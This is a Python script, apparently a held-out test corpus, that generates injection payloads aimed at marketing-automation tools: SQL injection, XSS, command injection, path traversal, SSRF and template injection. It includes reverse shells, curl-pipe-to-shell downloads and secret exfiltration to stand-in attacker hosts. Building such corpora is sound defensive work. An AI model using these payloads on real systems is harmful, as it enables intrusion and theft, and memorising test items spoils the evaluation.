"""Attack held-out corpus for the marketing-automation theme.

Each value is a payload written for this corpus that would work against a
vulnerable campaign tool which places the value where its class says: segment
rules concatenated into SQL, UTM values into reporting queries, link-shortener
targets fetched server-side, personalization templates rendered server-side,
subject lines into mail headers, asset names into file paths, export names
into shell commands, audience filters into LDAP/XPath/Mongo queries.
Class = "<context>-<technique>[+<encoding>]".  Most values are hand-written
literals; a minority are encoding variants computed from hand-written bases.
Writes attacks.jsonl next to this file.  Standard library only, deterministic.
"""
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 9102
PREFIX = "ha91"

# ------------------------------------------------------------------ SQLi
SQLI = [
    ("segment-tautology", "DE' OR '1'='1"),
    ("segment-union", "DE' UNION SELECT email, password_hash, api_key FROM users--"),
    ("segment-union", "AT' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- -"),
    ("segment-stacked", "CH'; DROP TABLE contacts;--"),
    ("segment-stacked", "FR'; UPDATE users SET role='admin' WHERE email='me@attacker.example';--"),
    ("segment-time-blind", "DE' AND SLEEP(7)-- "),
    ("segment-time-blind", "US' AND 4821=(SELECT 4821 FROM PG_SLEEP(6))--"),
    ("segment-time-blind", "ES'; WAITFOR DELAY '0:0:8'--"),
    ("segment-bool-blind", "DE' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a"),
    ("segment-bool-blind", "NL' AND ASCII(SUBSTR((SELECT api_key FROM integrations WHERE id=1),3,1))>77 AND 'x'='x"),
    ("segment-error", "DE' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))-- "),
    ("segment-error", "IT' AND 1=CAST((SELECT string_agg(email,',') FROM admins) AS int)--"),
    ("segment-error", "GB' AND UPDATEXML(1,CONCAT(0x2e,(SELECT user())),1)#"),
    ("segmentrule-in-list", "DE','AT') OR 1=1 OR country IN ('CH"),
    ("segmentrule-in-list", "'DE') UNION SELECT id, email, phone FROM contacts WHERE ('1'='1"),
    ("segmentrule-numeric", "30 OR 1=1"),
    ("segmentrule-numeric", "30; DELETE FROM campaign_sends"),
    ("segmentrule-numeric", "0 UNION SELECT username||':'||password FROM staff"),
    ("segmentrule-numeric", "90 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"),
    ("utm-union", "spring_sale' UNION SELECT 1,smtp_password,3 FROM mail_settings-- "),
    ("utm-tautology", "newsletter'or'a'='a"),
    ("utm-stacked", "email'; INSERT INTO admins(email) VALUES('x@attacker.example');--"),
    ("utm-time-blind", "bf_2024'||pg_sleep(10)||'"),
    ("utm-time-blind", "cpc' AND BENCHMARK(9000000,SHA1('utm'))-- x"),
    ("utm-oob", "q3'; EXEC master..xp_dirtree '\\\\q3.attacker.example\\share';--"),
    ("utm-oob", "social' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.oob.attacker.example\\\\a'))-- "),
    ("utm-error", "google' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("campaign-search-like", "%' UNION SELECT name, sql FROM sqlite_master--"),
    ("campaign-search-like", "spring%' AND 1=(SELECT COUNT(*) FROM users WHERE is_admin=1 AND password LIKE 'a%')--"),
    ("campaign-search-like", "sale%'; SELECT pg_sleep(5); --"),
    ("report-orderby", "created_at, (CASE WHEN (SELECT substr(api_key,1,1) FROM keys LIMIT 1)='s' THEN opens ELSE clicks END)"),
    ("report-orderby", "(SELECT 1 FROM (SELECT SLEEP(4))x)"),
    ("report-orderby", "opens DESC; DROP TABLE ab_tests"),
    ("report-orderby", "IF(1=1,sent_at,(SELECT 1 UNION SELECT 2))"),
    ("report-groupby", "utm_source HAVING 1=1--"),
    ("csvimport-insert", "anna@example.de','Anna','Müller','DE'),('x@attacker.example','x','x','admin')-- "),
    ("csvimport-insert", "jane@example.com', (SELECT password FROM users WHERE id=1), 'US')-- "),
    ("csvimport-insert", "bob@example.com'||(SELECT group_concat(email) FROM users)||'"),
    ("contact-lookup-stacked", "42; COPY (SELECT * FROM contacts) TO PROGRAM 'curl -d @- https://attacker.example/c'"),
    ("contact-lookup-union", "-1 UNION SELECT 1,@@version,current_user(),4"),
    ("contact-lookup-union", "0 union distinctrow select concat_ws(0x3a,email,pass),2 from admin_users"),
    ("goal-value-numeric", "49.99 OR 1=1"),
    ("goal-value-numeric", "25) OR (1=1"),
    ("abtest-name-second-order", "lp_test_v2'); DROP TABLE experiments; --"),
    ("abtest-name-second-order", "hero_test' AND (SELECT 'x' FROM dual WHERE 1=(SELECT 1 FROM dba_users WHERE ROWNUM=1))='x"),
    ("segment-oracle", "DE' AND 1=UTL_INADDR.get_host_name((SELECT user FROM dual))--"),
    ("segment-oracle", "DE' || (SELECT UTL_HTTP.REQUEST('http://203.0.113.7/'||(SELECT password FROM dba_users WHERE ROWNUM=1)) FROM dual) || '"),
    ("segment-mssql-exec", "DE'; EXEC xp_cmdshell 'powershell -c iwr http://203.0.113.9/x.ps1|iex';--"),
    ("segment-sqlite", "DE' UNION SELECT 1,group_concat(sql),3 FROM sqlite_master WHERE type='table'--"),
    ("segment-mysql-file", "DE' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/u.php'-- "),
    ("segment-mysql-file", "DE' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("segment-pg-file", "DE'; CREATE TABLE t(x text); COPY t FROM '/etc/hostname'; SELECT * FROM t;--"),
    ("segment-comment-evasion", "DE'/**/UNION/**/SELECT/**/email,api_token/**/FROM/**/users#"),
    ("segment-comment-evasion", "DE'/*!50000UnIoN*//*!50000SeLeCt*/password,2 FROM users-- -"),
    ("segment-quote-free", "1 UNION SELECT CHAR(97,100,109,105,110),0x70617373"),
    ("segment-nested-paren", "DE')) OR ((1=1"),
    ("segment-json-operator", "DE' OR attributes->>'role' = 'admin' OR 'x'='y"),
    ("segment-backslash-escape", "DE\\' OR 1=1 -- "),
    ("utm-having-error", "email' GROUP BY utm_campaign HAVING 1=1-- "),
    ("segment-like-wildcard-dump", "DE' AND email LIKE '%' UNION SELECT token, NULL FROM password_resets-- "),
    ("csvimport-update-stacked", "sam@example.org'); UPDATE contacts SET consent_email='yes';--"),
    ("segment-conditional-error", "DE' AND (SELECT CASE WHEN (SUBSTR(current_user,1,1)='p') THEN 1/0 ELSE 1 END)=1-- "),
    ("goal-id-numeric-union", "7 UNION SELECT NULL, string_agg(usename||':'||passwd, ',') FROM pg_shadow"),
    ("report-limit", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("plain-tautology", "admin' --"),
    ("plain-union", "' UNION SELECT username, password FROM users--"),
    ("plain-time-blind", "1' AND SLEEP(5)#"),
    ("plain-stacked", "1; DROP TABLE users"),
    ("plain-error", "' AND 1=CONVERT(int,@@version)--"),
    ("plain-bool-blind", "1 AND 1=2 UNION SELECT NULL,NULL--"),
    ("plain-tautology", "\" or \"\"=\""),
    ("segment-case-mixing", "De' uNiOn SeLeCt NuLl,EmAiL,pAsSwOrD fRoM UsErS-- -"),
]

SQLI_ENCODE = [
    ("utm-union+urlencode", "newsletter' UNION SELECT email,password FROM users-- ", "url"),
    ("utm-tautology+double-urlencode", "email' OR '1'='1", "url2"),
    ("segment-time-blind+urlencode", "DE' AND SLEEP(6)-- -", "url"),
    ("tracking-url-stacked+urlencode", "spring'; DROP TABLE clicks;--", "url"),
    ("utm-error+double-urlencode", "cpc' AND extractvalue(1,concat(0x7e,database()))-- ", "url2"),
]

# ------------------------------------------------------------------ XSS
XSS = [
    ("subject-script", "Last chance! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("subject-img-onerror", "Your cart 🛒 <img src=x onerror=alert(document.domain)>"),
    ("campaign-name-svg", "Spring Sale <svg onload=\"new Image().src='//attacker.example/?k='+localStorage.token\">"),
    ("campaign-name-attr-break", "Spring\" autofocus onfocus=\"alert(1)"),
    ("campaign-name-attr-break", "BF2024' onmouseover='eval(atob(`YWxlcnQoMSk=`))' x='"),
    ("adcopy-iframe-srcdoc", "50% off <iframe srcdoc=\"<script>parent.alert(origin)</script>\"></iframe>"),
    ("adcopy-details-ontoggle", "<details open ontoggle=alert(1)>Free shipping</details>"),
    ("adcopy-body-onload", "<body onload=\"location='https://attacker.example/steal?c='+document.cookie\">"),
    ("landing-javascript-url", "<a href=\"javascript:fetch('/api/users').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example',t))\">Shop now</a>"),
    ("landing-javascript-url", "<a href=\"jAvAsCrIpT:alert(document.cookie)\">Get my free guide</a>"),
    ("landing-javascript-url", "<a href=\"java&#x09;script:alert(1)\">See plans</a>"),
    ("landing-form-action", "<form action=\"javascript:alert(1)\"><button>Subscribe</button></form>"),
    ("landing-formaction", "<button formaction=\"https://attacker.example/phish\" form=\"signup\">Confirm email</button>"),
    ("landing-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("landing-object-data", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("landing-embed", "<embed src=\"javascript:alert(document.domain)\">"),
    ("landing-style-import-exfil", "<style>@import 'https://attacker.example/leak.css';</style>"),
    ("landing-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("landing-svg-foreignobject", "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>"),
    ("landing-math-style", "<math><style><img src=x onerror=alert(1)></style></math>"),
    ("landing-video-source", "<video><source onerror=\"alert(document.cookie)\"></video>"),
    ("landing-audio", "<audio src=x onerror=import('//attacker.example/x.js')>"),
    ("landing-base-hijack", "<base href=\"https://attacker.example/\">"),
    ("landing-script-src", "<script src=\"https://cdn.attacker.example/lp.js\"></script>"),
    ("landing-script-src", "<script src=//203.0.113.44/p.js></script>"),
    ("landing-input-autofocus", "<input autofocus onfocus=\"document.forms[0].action='https://attacker.example/'\">"),
    ("landing-marquee", "<marquee onstart=alert(1)>Sale ends soon</marquee>"),
    ("landing-template-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
    ("landing-textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("landing-title-breakout", "</title><img src=1 onerror=alert(1)>"),
    ("landing-style-breakout", "</style><svg/onload=alert(1)>"),
    ("utm-reflected-script", "utm_source=newsletter&utm_campaign=<script>alert(1)</script>"),
    ("utm-reflected-attr", "utm_content=cta\"><img src=x onerror=alert(1)>"),
    ("utm-reflected-js-string", "utm_term=shoes';alert(String.fromCharCode(88,83,83));//"),
    ("utm-reflected-js-string", "utm_campaign=x\\';alert(1);//"),
    ("utm-reflected-js-template", "utm_medium=${alert(document.domain)}"),
    ("utm-reflected-js-string", "utm_source=\"-alert(1)-\""),
    ("shortlink-target-javascript", "javascript:alert(document.cookie)//https://example.com/sale"),
    ("shortlink-target-data", "data:text/html,<script>alert(opener.document.cookie)</script>"),
    ("pixel-tag-attr", "https://t.example.com/px.gif\" onload=\"alert(1)"),
    ("pixel-tag-breakout", "https://t.example.com/px.gif\"><script>alert(1)</script>"),
    ("personalization-fname", "<img src=x onerror=alert('FNAME')>"),
    ("personalization-fname", "Anna<script>new Image().src='https://attacker.example/'+document.cookie</script>"),
    ("csvimport-firstname", "\"><svg onload=alert(1)>,Müller,DE"),
    ("csvimport-company", "Acme <img src=1 onerror=\"fetch('https://attacker.example/?'+document.cookie)\">"),
    ("abnote-markdown-link", "Variant B won, see [report](javascript:alert(document.domain))"),
    ("abnote-markdown-image", "![chart](x\" onerror=\"alert(1))"),
    ("segment-name-dom", "VIP'-alert(1)-'"),
    ("goal-name-json-breakout", "purchase\"}</script><script>alert(1)</script>"),
    ("adcopy-angular-expr", "{{constructor.constructor('alert(1)')()}}"),
    ("adcopy-vue-expr", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("landing-srcset", "<img srcset=\",,,,,x\" onerror=alert(1)>"),
    ("landing-event-newline", "<img src=x\nonerror\n=\nalert(1)>"),
    ("landing-slash-separator", "<svg/onload=alert`1`>"),
    ("landing-button-formaction-js", "<form><button formaction=javascript:alert(document.cookie)>Claim offer</button></form>"),
    ("landing-onpointer", "<div onpointerenter=\"alert(1)\" style=\"position:fixed;inset:0\">Shop</div>"),
    ("landing-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">Buy</text></a></svg>"),
    ("landing-setattribute", "<img src=x onerror=\"this.setAttribute('src','https://attacker.example/?'+btoa(document.cookie))\">"),
    ("subject-preheader-comment-break", "--><script>alert(1)</script><!--"),
    ("landing-cdata-break", "]]><script>alert(1)</script>"),
    ("personalization-href-token", "\" href=\"javascript:alert(1)"),
    ("adcopy-emoji-img", "🔥 Sale 🔥<img src=//attacker.example/p.png onload=alert(document.cookie)>"),
    ("landing-data-uri-iframe", "<iframe src=\"data:text/html;charset=utf-8,%3Cscript%3Ealert(parent.document.domain)%3C/script%3E\"></iframe>"),
    ("campaign-name-svg-script", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-javascript-url", "javascript:alert(1)"),
    ("plain-attr-break", "\" onmouseover=\"alert(1)"),
    ("plain-iframe", "<iframe src=javascript:alert(1)>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
]

XSS_ENCODE = [
    ("utm-reflected-script+urlencode", "<script>alert(document.cookie)</script>", "url"),
    ("utm-reflected-attr+double-urlencode", "\"><img src=x onerror=alert(1)>", "url2"),
    ("subject-img-onerror+html-entities", "<img src=x onerror=alert(1)>", "html"),
    ("landing-svg+urlencode", "<svg/onload=alert(document.domain)>", "url"),
    ("adcopy-script+unicode-escape", "<script>alert(1)</script>", "uesc"),
    ("shortlink-javascript+html-entities-attr", "javascript:alert(1)", "htmldec"),
]

# ------------------------------------------------------------------ CMDi
CMDI = [
    ("export-filename-semicolon", "spring_sale_report.csv; curl -s https://attacker.example/x.sh | sh"),
    ("export-filename-semicolon", "q3_abm.csv;id"),
    ("export-filename-pipe", "bf2024.xlsx | nc 203.0.113.5 4444 -e /bin/sh"),
    ("export-filename-and", "welcome.csv && wget -qO- http://198.51.100.23/a | bash"),
    ("export-filename-or", "x.csv || cat /etc/passwd"),
    ("export-filename-subshell", "report_$(whoami).csv"),
    ("export-filename-backtick", "report_`id`.csv"),
    ("export-filename-newline", "winback.csv\nuname -a"),
    ("export-filename-ifs", "report.csv;cat${IFS}/etc/shadow"),
    ("export-filename-brace", "report.csv;{cat,/etc/passwd}"),
    ("export-filename-redirect", "report.csv; echo 'ssh-ed25519 AAAAfakekey attacker' >> ~/.ssh/authorized_keys"),
    ("thumbnail-url-subshell", "https://cdn.example.com/hero.jpg$(curl attacker.example/p|sh)"),
    ("thumbnail-url-semicolon", "https://cdn.example.com/banner.png\";sleep 9;\""),
    ("image-resize-imagemagick", "hero.png' -write /var/www/html/s.php '"),
    ("image-convert-pipe", "|touch /tmp/pwned_marketing"),
    ("ping-host-webhook", "203.0.113.10; cat /etc/passwd"),
    ("ping-host-webhook+urlencode", "example.com%0aid"),
    ("dns-check-domain", "mail.example.com;nslookup $(hostname).attacker.example"),
    ("dns-check-domain", "example.com`dig +short $(id -u).oob.attacker.example`"),
    ("dkim-selector", "s1._domainkey.example.com && curl -F f=@/etc/passwd https://attacker.example/u"),
    ("spf-lookup", "example.com | bash -i >& /dev/tcp/203.0.113.66/9001 0>&1"),
    ("pdf-render-title", "Q1 report\"; python3 -c 'import os;os.system(\"id\")' #"),
    ("pdf-render-url", "https://example.com/lp --post-file=/etc/passwd https://attacker.example/"),
    ("wkhtmltopdf-arg", "--load-error-handling ignore --run-script \"x\" https://attacker.example/"),
    ("curl-arg-injection", "-o /var/www/html/shell.php https://attacker.example/shell.txt"),
    ("git-import-arg", "--upload-pack=touch /tmp/x"),
    ("tar-archive-name", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/run.sh"),
    ("zip-export-arg", "export.zip -TmTT=\"$(id>/tmp/o)foo\""),
    ("sendmail-from-arg", "news@example.com -OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("campaign-slug-windows", "spring-sale & type C:\\Windows\\win.ini"),
    ("campaign-slug-windows", "spring | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.12/a')\""),
    ("campaign-slug-windows", "bf2024 && certutil -urlcache -split -f http://198.51.100.9/b.exe %TEMP%\\b.exe"),
    ("csvimport-filename", "contacts.csv;rm -rf /srv/exports/*"),
    ("csvimport-delimiter", "';' ; sleep 12 #"),
    ("cron-schedule", "0 9 * * 1; curl https://attacker.example/c -d \"$(env)\""),
    ("ffmpeg-video-url", "https://cdn.example.com/v.mp4 -f null - ; id"),
    ("webhook-test-host", "hooks.example.com;$(printf aWQ=|base64 -d)"),
    ("font-name-shell", "Roboto';/bin/busybox nc 198.51.100.77 5555 -e sh;'"),
    ("utm-logger-shell", "newsletter$(sleep${IFS}10)"),
    ("utm-logger-shell", "email;{echo,aWQ=}|{base64,-d}|sh"),
    ("subject-to-shell", "Hello *|FNAME|* `curl -s attacker.example/b|sh`"),
    ("subject-to-shell", "Big sale $(/bin/sh -c 'nc -e /bin/sh 203.0.113.3 8080')"),
    ("domain-verify-quote-break", "example.com' && python -c 'import socket,subprocess;s=socket.socket();s.connect((\"203.0.113.8\",443));subprocess.call([\"/bin/sh\"],stdin=s.fileno(),stdout=s.fileno())' && echo '"),
    ("asset-name-glob", "logo.png; /???/??t /???/p??s??"),
    ("asset-name-quote-split", "logo.png;w'h'o'am'i"),
    ("asset-name-var-split", "logo.png;c$@at /et$@c/pas$@swd"),
    ("asset-name-hex", "logo.png;$(printf '\\143\\141\\164\\040\\057\\145\\164\\143\\057\\160\\141\\163\\163\\167\\144')"),
    ("asset-name-rev", "logo.png;$(rev<<<'dwssap/cte/ tac')"),
    ("asset-name-nohup", "logo.png & nohup perl -e 'use Socket;$i=\"203.0.113.2\";$p=4242;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");' &"),
    ("segment-export-job-semicolon", "DE_newsletter; curl -X POST --data-binary @/app/.env https://attacker.example/e"),
    ("dkim-keygen-backtick", "selector2`touch /tmp/dkim`"),
    ("sftp-import-path", "/uploads/contacts.csv; scp /etc/shadow drop@203.0.113.40:/tmp/"),
    ("audience-sync-python", "list_42\"; __import__('os').system('id'); x=\""),
    ("campaign-slug-env", "promo;env>/var/www/html/env.txt"),
    ("ping-host-webhook", "198.51.100.2 -c 1; busybox telnet 198.51.100.2 23"),
    ("font-name-shell", "Open Sans\";exec('id');#"),
    ("export-filename-process-sub", "report.csv <(curl -s https://attacker.example/r)"),
    ("plain-semicolon", "; ls -la /"),
    ("plain-pipe", "| id"),
    ("plain-subshell", "$(cat /etc/passwd)"),
    ("plain-backtick", "`sleep 5`"),
    ("plain-and", "&& whoami"),
    ("plain-or", "|| ping -c 10 127.0.0.1"),
    ("plain-newline", "\nreboot\n"),
]

CMDI_ENCODE = [
    ("export-filename-semicolon+urlencode", "report.csv; cat /etc/passwd", "url"),
    ("ping-host-webhook+double-urlencode", "203.0.113.1|id", "url2"),
    ("utm-logger-shell+urlencode", "email$(curl attacker.example)", "url"),
    ("thumbnail-url-subshell+urlencode", "hero.jpg`wget http://198.51.100.4/s -O /tmp/s`", "url"),
]

# ------------------------------------------------------------------ traversal
TRAVERSAL = [
    ("asset-path-dotdot", "../../../../etc/passwd"),
    ("asset-path-dotdot", "img/hero/../../../../../../etc/shadow"),
    ("asset-path-dotdot", "../../config/database.yml"),
    ("asset-path-dotdot", "banners/2025/../../../.env"),
    ("asset-path-dotdot", "../../../../proc/self/environ"),
    ("asset-path-absolute", "/etc/passwd"),
    ("asset-path-absolute", "/root/.ssh/id_rsa"),
    ("asset-path-absolute", "/var/lib/postgresql/data/pg_hba.conf"),
    ("template-include", "emails/../../../../../etc/hosts"),
    ("template-include", "{% include '../../../../../app/settings.py' %}"),
    ("template-include", "{{> ../../../secrets/smtp.json }}"),
    ("template-name", "newsletter_v3/../../../../home/app/.aws/credentials"),
    ("download-export", "exports/../../../../var/log/nginx/access.log"),
    ("download-export", "q3_report.csv/../../../../etc/group"),
    ("download-export-dotdot+urlencode-slash", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("download-export-dotdot+urlencode-dots", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("download-export-dotdot+double-urlencode", "..%252f..%252f..%252f..%252fetc%252fpasswd"),
    ("download-export-dotdot+double-urlencode-all", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow"),
    ("download-export-dotdot+overlong-utf8-slash", "..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("download-export-dotdot+overlong-utf8-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("download-export-dotdot+iis-unicode", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("asset-path-nested-strip", "....//....//....//....//etc/passwd"),
    ("asset-path-nested-strip", "..././..././..././..././etc/passwd"),
    ("asset-path-backslash", "..\\..\\..\\..\\windows\\win.ini"),
    ("asset-path-backslash", "images\\..\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("asset-path-windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("asset-path-windows-unc", "\\\\203.0.113.20\\share\\x.png"),
    ("asset-path-nullbyte+urlencode", "../../../../etc/passwd%00.png"),
    ("asset-path-nullbyte", "../../../../etc/passwd\u0000.jpg"),
    ("asset-path-file-scheme", "file:///etc/passwd"),
    ("asset-path-file-scheme", "file://localhost/c:/windows/win.ini"),
    ("upload-filename", "../../../var/www/html/shell.php"),
    ("upload-filename", "..\\..\\..\\wwwroot\\aspx\\cmd.aspx"),
    ("upload-zip-slip", "campaign_assets/../../../../../../home/app/.bashrc"),
    ("csvimport-attachment", "/proc/self/cwd/config/secrets.yml"),
    ("csvimport-attachment", "/proc/1/cmdline"),
    ("font-url-traversal", "fonts/../../../../../../etc/ssl/private/server.key"),
    ("locale-param", "de_DE/../../../../../../etc/passwd"),
    ("locale-param", "../../../../usr/local/app/.git/config"),
    ("java-webinf", "../../WEB-INF/web.xml"),
    ("java-webinf", "..;/..;/WEB-INF/classes/application.properties"),
    ("pixel-path-traversal", "/px/../../../../../../etc/passwd?e=open"),
    ("php-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-dotdot-windows", "..\\..\\..\\boot.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-dotdot-deep", "../../../../../../../../../../etc/hosts"),
    ("plain-file-scheme", "file:///etc/hosts"),
]

TRAV_ENCODE = [
    ("download-export+overlong-utf8", "..%e0%80%af..%e0%80%af..%e0%80%afetc%e0%80%afpasswd", None),
    ("asset-path-dotdot+urlencode", "../../../../../etc/passwd", "urlall"),
    ("template-name+double-urlencode", "../../../app/.env", "url2all"),
    ("asset-path-backslash+urlencode", "..\\..\\..\\windows\\win.ini", "urlall"),
]

# ------------------------------------------------------------------ SSRF
SSRF = [
    ("shortlink-target-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("shortlink-target-metadata", "http://169.254.169.254/latest/api/token"),
    ("shortlink-target-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("shortlink-target-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("shortlink-target-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("link-preview-loopback", "http://127.0.0.1:8080/admin"),
    ("link-preview-loopback", "http://localhost:6379/"),
    ("link-preview-loopback", "http://[::1]:9200/_cat/indices"),
    ("link-preview-loopback", "http://0.0.0.0:5000/debug/console"),
    ("link-preview-loopback", "http://127.1/server-status"),
    ("link-preview-decimal-ip", "http://2130706433/admin"),
    ("link-preview-octal-ip", "http://0177.0.0.1/"),
    ("link-preview-hex-ip", "http://0x7f000001:8500/v1/agent/self"),
    ("link-preview-ipv6-mapped", "http://[::ffff:127.0.0.1]:2375/containers/json"),
    ("link-preview-ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("link-preview-decimal-ip", "http://2852039166/latest/meta-data/"),
    ("link-preview-dns-rebind", "http://127.0.0.1.nip.io/admin"),
    ("link-preview-dns-rebind", "http://a9fea9fe.rbnd.attacker.example/latest/meta-data/"),
    ("link-preview-userinfo", "http://example.com@127.0.0.1:8080/internal"),
    ("link-preview-userinfo+urlencode-at", "https://shop.example.com%40169.254.169.254/latest/meta-data/"),
    ("link-preview-fragment-confusion", "http://127.0.0.1:25#@example.com/"),
    ("link-preview-backslash-confusion", "http://example.com\\@10.0.0.5/"),
    ("link-preview-internal-host", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("link-preview-internal-host", "http://10.0.0.12:8500/v1/kv/?recurse"),
    ("link-preview-internal-host", "http://192.168.1.1/cgi-bin/luci"),
    ("link-preview-internal-host", "http://172.17.0.1:2375/info"),
    ("webhook-url-gopher", "gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ACONFIG%20SET%20dir%20/tmp%0D%0A"),
    ("webhook-url-gopher", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A"),
    ("webhook-url-dict", "dict://127.0.0.1:11211/stats"),
    ("webhook-url-file", "file:///var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("webhook-url-ldap", "ldap://127.0.0.1:389/dc=internal"),
    ("webhook-url-tftp", "tftp://203.0.113.30/x"),
    ("webhook-url-redirect", "https://attacker.example/302?to=http://169.254.169.254/latest/meta-data/"),
    ("pixel-src-internal", "http://127.0.0.1:9090/api/v1/query?query=up"),
    ("pixel-src-internal", "http://localhost/px.gif?e=open&next=http://127.0.0.1:8000/admin/"),
    ("rss-feed-import", "http://169.254.170.2/v2/credentials/"),
    ("rss-feed-import", "http://127.0.0.1:15000/config_dump"),
    ("image-import-url", "http://0/"),
    ("image-import-url+unicode-enclosed-digits", "http://①②⑦.⓪.⓪.①/"),
    ("image-import-url", "http://[::]:8080/admin"),
    ("utm-redirect-param", "https://example.com/r/?url=http://169.254.169.254/latest/user-data"),
    ("utm-redirect-param", "https://example.com/click?target=http%3A%2F%2F127.0.0.1%3A8080%2Factuator%2Fenv&utm_source=email"),
    ("csvimport-avatar-url", "http://[0:0:0:0:0:ffff:7f00:1]/"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-file", "file:///c:/windows/win.ini"),
    ("plain-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/"),
    ("plain-localhost-port", "http://localhost:8080/"),
]

SSRF_ENCODE = [
    ("link-preview-loopback+double-urlencode", "http://127.0.0.1:8080/admin", "url2"),
    ("utm-redirect-param+urlencode", "http://169.254.169.254/latest/meta-data/", "url"),
    ("link-preview-metadata+mixed-ip", "http://169.254.0xa9fe/latest/meta-data/", None),
    ("link-preview-loopback+octal-dotted", "http://0177.0000.0000.0001:8080/", None),
]

# ------------------------------------------------------------------ code
CODE = [
    ("personalization-jinja-ssti", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("personalization-jinja-ssti", "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }}"),
    ("personalization-jinja-ssti", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("personalization-jinja-ssti", "{{ lipsum.__globals__['os'].environ }}"),
    ("personalization-jinja-ssti", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['eval'](\"__import__('os').system('id')\") }}{% endif %}{% endfor %}"),
    ("personalization-jinja-filter", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("personalization-jinja-ssti", "Hi {{contact.firstname}} {{ namespace.__init__.__globals__.os.system('sleep 7') }}"),
    ("personalization-twig-ssti", "{{ ['id']|filter('system') }}"),
    ("personalization-twig-ssti", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("personalization-freemarker-ssti", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("personalization-freemarker-ssti", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("personalization-velocity-ssti", "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$x"),
    ("personalization-erb-ssti", "<%= `cat /etc/passwd` %>"),
    ("personalization-erb-ssti", "Hello <%= system('curl https://attacker.example/e | sh') %>"),
    ("personalization-smarty-ssti", "{system('id')}"),
    ("personalization-smarty-ssti", "{php}echo shell_exec('id');{/php}"),
    ("personalization-mako-ssti", "${__import__('os').popen('id').read()}"),
    ("personalization-handlebars-ssti", "{{#with \"s\" as |string|}}{{#with (string.sub.apply 0 (lookup string.constructor \"constructor\"))}}{{this \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}"),
    ("personalization-pug-ssti", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("personalization-ejs-ssti", "<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
